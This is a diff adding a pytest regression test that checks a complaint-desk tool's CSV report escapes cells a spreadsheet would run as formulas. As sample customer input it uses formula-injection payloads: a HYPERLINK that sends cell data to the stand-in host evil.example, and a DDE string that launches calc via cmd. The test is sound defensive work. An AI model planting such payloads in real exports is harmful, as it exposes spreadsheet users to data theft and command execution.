@@ -98,6 +98,25 @@ def test_report_as_csv_is_machine_readable(data: Data, capsys: pytest.CaptureFix
     assert {r["channel"] for r in sections["by_channel"]} == {"phone", "email"}
 
 
+def test_report_csv_cells_a_spreadsheet_would_run_are_neutralised(
+    data: Data, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Issue 11.5: what customers typed starts no formula; the desk's own numbers stay numbers."""
+    desk = Desk(desk_settings(data.url))
+    for _ in range(2):  # a repeat complainant, named by what they typed
+        typed = cases.register_case(desk, "ag", draft(
+            phone="13700137000", customer_name="=HYPERLINK(\"http://evil.example/?\"&A1)",
+            description="@SUM(1+1)*cmd|' /C calc'!A0", product="+P", batch="-B"))
+    cases.mark_typical(desk, "sup", typed.number)
+    desk.close()
+    out = report(data, capsys, "--format", "csv")
+    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
+    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert "4" in cells and "300.00" in cells
+
+
 def test_report_to_a_file(data: Data, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     target = tmp_path / "review.html"
     report(data, capsys, "--format", "html", "-o", str(target))
